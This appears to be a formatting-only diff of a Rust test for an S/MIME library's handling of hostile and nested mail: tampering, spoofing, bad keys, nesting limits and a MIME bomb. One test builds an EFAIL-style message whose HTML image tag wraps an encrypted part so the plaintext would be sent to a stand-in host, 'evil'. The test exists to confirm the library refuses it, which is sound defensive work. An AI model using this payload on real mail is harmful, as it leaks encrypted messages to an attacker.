@@ -33,13 +33,20 @@ fn hostile_and_nested_input() {
     assert!(signed.iter().all(|b| *b < 0x80));
 
     // Tampered content: digest mismatch, not a panic.
-    let tampered = String::from_utf8(signed.clone()).unwrap().replacen("Content-Transfer-Encoding: base64\r\n\r\n", "Content-Transfer-Encoding: base64\r\n\r\nQUFB", 1);
+    let tampered = String::from_utf8(signed.clone()).unwrap().replacen(
+        "Content-Transfer-Encoding: base64\r\n\r\n",
+        "Content-Transfer-Encoding: base64\r\n\r\nQUFB",
+        1,
+    );
     let r = smime::verify(tampered.as_bytes(), &anchors, &[], now).unwrap();
     assert_eq!(r.ensure_valid(), Err(SmimeError::DigestMismatch));
 
     // Untrusted: no anchors.
     let r = smime::verify(&signed, &[], &[], now).unwrap();
-    assert!(matches!(r.ensure_valid(), Err(SmimeError::UntrustedChain(_))));
+    assert!(matches!(
+        r.ensure_valid(),
+        Err(SmimeError::UntrustedChain(_))
+    ));
     // Expired at "now" (two years later).
     let later = now + Duration::from_secs(2 * 365 * 86400);
     let r = smime::verify(&signed, &anchors, &[], later).unwrap();
@@ -47,7 +54,11 @@ fn hostile_and_nested_input() {
     assert!(r.ensure_valid().is_err());
 
     // From address mismatch is reported.
-    let spoofed = String::from_utf8(signed.clone()).unwrap().replacen("From: Alice <alice@example.org>", "From: Mallory <ceo@example.org>", 1);
+    let spoofed = String::from_utf8(signed.clone()).unwrap().replacen(
+        "From: Alice <alice@example.org>",
+        "From: Mallory <ceo@example.org>",
+        1,
+    );
     let r = smime::verify(spoofed.as_bytes(), &anchors, &[], now).unwrap();
     assert_eq!(r.signers[0].address_match, smime::AddressMatch::NoMatch);
 
@@ -55,45 +66,106 @@ fn hostile_and_nested_input() {
     let enc = smime::encrypt(&msg, &[fx.cert("bob").into()], &EncryptOptions::default()).unwrap();
     let d = smime::decrypt(&enc, &vec![bob_key]).unwrap();
     assert!(String::from_utf8_lossy(&d.message).contains("Subject: Quarterly report"));
-    assert_eq!(smime::decrypt(&enc, &vec![fx.key("dave")]).unwrap_err(), SmimeError::NoMatchingRecipient);
+    assert_eq!(
+        smime::decrypt(&enc, &vec![fx.key("dave")]).unwrap_err(),
+        SmimeError::NoMatchingRecipient
+    );
     let mut der = p7m_der(&enc);
     let n = der.len();
     der[n - 20] ^= 0x55;
     let bad = wrap_p7m("enveloped-data", &der, "bob");
-    assert!(matches!(smime::decrypt(&bad, &vec![fx.key("bob")]), Err(SmimeError::DecryptionFailed) | Ok(_)));
+    assert!(matches!(
+        smime::decrypt(&bad, &vec![fx.key("bob")]),
+        Err(SmimeError::DecryptionFailed) | Ok(_)
+    ));
     // A corrupted wrapped key (RFC 3218): same vague error as tampering, no oracle.
     let mut der = p7m_der(&enc);
-    let pos = der.windows(4).position(|w| w == [0x04, 0x82, 0x01, 0x00]).unwrap();
+    let pos = der
+        .windows(4)
+        .position(|w| w == [0x04, 0x82, 0x01, 0x00])
+        .unwrap();
     der[pos + 10] ^= 0xff;
     let bad = wrap_p7m("enveloped-data", &der, "bob");
-    assert_eq!(smime::decrypt(&bad, &vec![fx.key("bob")]).unwrap_err(), SmimeError::DecryptionFailed);
+    assert_eq!(
+        smime::decrypt(&bad, &vec![fx.key("bob")]).unwrap_err(),
+        SmimeError::DecryptionFailed
+    );
 
     // Sender is a recipient by default via sign_and_encrypt.
-    let se = smime::sign_and_encrypt(&msg, &alice, &[], &[fx.cert("bob").into()], &SignOptions::default(), &EncryptOptions::default()).unwrap();
+    let se = smime::sign_and_encrypt(
+        &msg,
+        &alice,
+        &[],
+        &[fx.cert("bob").into()],
+        &SignOptions::default(),
+        &EncryptOptions::default(),
+    )
+    .unwrap();
     smime::decrypt(&se, &vec![fx.key("alice")]).unwrap();
     let mut no_sender = EncryptOptions::default();
     no_sender.include_sender = false;
-    let se2 = smime::sign_and_encrypt(&msg, &alice, &[], &[fx.cert("bob").into()], &SignOptions::default(), &no_sender).unwrap();
-    assert_eq!(smime::decrypt(&se2, &vec![fx.key("alice")]).unwrap_err(), SmimeError::NoMatchingRecipient);
+    let se2 = smime::sign_and_encrypt(
+        &msg,
+        &alice,
+        &[],
+        &[fx.cert("bob").into()],
+        &SignOptions::default(),
+        &no_sender,
+    )
+    .unwrap();
+    assert_eq!(
+        smime::decrypt(&se2, &vec![fx.key("alice")]).unwrap_err(),
+        SmimeError::NoMatchingRecipient
+    );
 
     // GCM only when every recipient advertised it.
-    let gcm_bob = Recipient { supports_aes256_gcm: true, ..Recipient::from(fx.cert("bob")) };
-    let e1 = smime::encrypt(&msg, &[gcm_bob.clone()], &EncryptOptions::default()).unwrap();
+    let gcm_bob = Recipient {
+        supports_aes256_gcm: true,
+        ..Recipient::from(fx.cert("bob"))
+    };
+    let e1 = smime::encrypt(
+        &msg,
+        std::slice::from_ref(&gcm_bob),
+        &EncryptOptions::default(),
+    )
+    .unwrap();
     assert!(String::from_utf8_lossy(&e1).contains("authEnveloped-data"));
-    let e2 = smime::encrypt(&msg, &[gcm_bob, fx.cert("dave").into()], &EncryptOptions::default()).unwrap();
+    let e2 = smime::encrypt(
+        &msg,
+        &[gcm_bob, fx.cert("dave").into()],
+        &EncryptOptions::default(),
+    )
+    .unwrap();
     assert!(String::from_utf8_lossy(&e2).contains("smime-type=enveloped-data"));
 
     // Signing-only certificate is refused as a recipient.
     assert!(matches!(
-        smime::encrypt(&msg, &[fx.cert("signonly").into()], &EncryptOptions::default()),
+        smime::encrypt(
+            &msg,
+            &[fx.cert("signonly").into()],
+            &EncryptOptions::default()
+        ),
         Err(SmimeError::CertificateUnusable(_))
     ));
 
     // Triple wrap: sign, encrypt, sign again; unwrap peels all three.
     let inner_signed = smime::sign(&msg, &alice, &[], &SignOptions::default()).unwrap();
-    let encd = smime::encrypt(&inner_signed, &[fx.cert("bob").into()], &EncryptOptions::default()).unwrap();
+    let encd = smime::encrypt(
+        &inner_signed,
+        &[fx.cert("bob").into()],
+        &EncryptOptions::default(),
+    )
+    .unwrap();
     let triple = smime::sign(&encd, &alice, &[], &SignOptions::default()).unwrap();
-    let u = smime::unwrap(&triple, &vec![fx.key("bob")], &anchors, &[], now, Limits::default()).unwrap();
+    let u = smime::unwrap(
+        &triple,
+        &vec![fx.key("bob")],
+        &anchors,
+        &[],
+        now,
+        Limits::default(),
+    )
+    .unwrap();
     assert_eq!(u.layers.len(), 3, "{:?}", u.layers);
     assert!(matches!(u.layers[0], Layer::Signed(_)));
     assert!(matches!(u.layers[1], Layer::Decrypted(_)));
@@ -103,22 +175,51 @@ fn hostile_and_nested_input() {
     let mut lim = Limits::default();
     lim.max_depth = 1;
     let u = smime::unwrap(&triple, &vec![fx.key("bob")], &anchors, &[], now, lim).unwrap();
-    assert!(matches!(u.layers.last(), Some(Layer::Untouched(SmimeError::LimitExceeded(_)))));
+    assert!(matches!(
+        u.layers.last(),
+        Some(Layer::Untouched(SmimeError::LimitExceeded(_)))
+    ));
 
     // EFAIL: an encrypted part beside attacker-controlled parts stays encrypted.
     let enc_entity = String::from_utf8(enc.clone()).unwrap();
-    let enc_entity = &enc_entity[enc_entity.find("Content-Type: application/pkcs7-mime").unwrap()..];
+    let enc_entity = &enc_entity[enc_entity
+        .find("Content-Type: application/pkcs7-mime")
+        .unwrap()..];
     let efail = format!("From: bob@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"E\"\r\n\r\n--E\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil/?\r\n--E\r\n{enc_entity}\r\n--E\r\nContent-Type: text/html\r\n\r\n\">\r\n--E--\r\n");
-    assert!(matches!(smime::decrypt(efail.as_bytes(), &vec![fx.key("bob")]), Err(SmimeError::Refused(_))));
-    let u = smime::unwrap(efail.as_bytes(), &vec![fx.key("bob")], &anchors, &[], now, Limits::default()).unwrap();
-    assert!(matches!(&u.layers[..], [Layer::Untouched(SmimeError::Refused(_))]));
+    assert!(matches!(
+        smime::decrypt(efail.as_bytes(), &vec![fx.key("bob")]),
+        Err(SmimeError::Refused(_))
+    ));
+    let u = smime::unwrap(
+        efail.as_bytes(),
+        &vec![fx.key("bob")],
+        &anchors,
+        &[],
+        now,
+        Limits::default(),
+    )
+    .unwrap();
+    assert!(matches!(
+        &u.layers[..],
+        [Layer::Untouched(SmimeError::Refused(_))]
+    ));
     assert_eq!(u.message, efail.as_bytes());
 
     // Forwarded signed mail inside multipart/mixed is verified where it stands.
     let signed_entity = String::from_utf8(signed.clone()).unwrap();
-    let signed_entity = &signed_entity[signed_entity.find("Content-Type: multipart/signed").unwrap()..];
+    let signed_entity = &signed_entity[signed_entity
+        .find("Content-Type: multipart/signed")
+        .unwrap()..];
     let fwd = format!("From: carol@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"F\"\r\n\r\n--F\r\nContent-Type: text/plain\r\n\r\nSee below.\r\n--F\r\n{signed_entity}\r\n--F--\r\n");
-    let u = smime::unwrap(fwd.as_bytes(), &vec![fx.key("bob")], &anchors, &[], now, Limits::default()).unwrap();
+    let u = smime::unwrap(
+        fwd.as_bytes(),
+        &vec![fx.key("bob")],
+        &anchors,
+        &[],
+        now,
+        Limits::default(),
+    )
+    .unwrap();
     assert!(matches!(&u.layers[..], [Layer::NestedSignature(r)] if r.signers[0].signature.is_ok()));
 
     // Garbage and truncation never panic.
@@ -131,7 +232,13 @@ fn hostile_and_nested_input() {
         assert!(smime::verify(&m, &anchors, &[], now).is_err());
     }
     assert!(smime::decrypt(b"\xff\xfe garbage", &vec![fx.key("bob")]).is_err());
-    assert!(smime::verify(b"Content-Type: multipart/signed; boundary=x\r\n\r\n--x\r\n", &anchors, &[], now).is_err());
+    assert!(smime::verify(
+        b"Content-Type: multipart/signed; boundary=x\r\n\r\n--x\r\n",
+        &anchors,
+        &[],
+        now
+    )
+    .is_err());
 
     // MIME bomb: deep nesting is cut off.
     let mut bomb = String::from("Content-Type: text/plain\r\n\r\nx\r\n");
@@ -139,6 +246,13 @@ fn hostile_and_nested_input() {
         bomb = format!("Content-Type: multipart/mixed; boundary=\"b{i}\"\r\n\r\n--b{i}\r\n{bomb}\r\n--b{i}--\r\n");
     }
     let bomb = format!("From: x@example.org\r\n{bomb}");
-    let r = smime::unwrap(bomb.as_bytes(), &vec![fx.key("bob")], &anchors, &[], now, Limits::default());
+    let r = smime::unwrap(
+        bomb.as_bytes(),
+        &vec![fx.key("bob")],
+        &anchors,
+        &[],
+        now,
+        Limits::default(),
+    );
     assert!(matches!(r, Err(SmimeError::LimitExceeded(_))));
 }
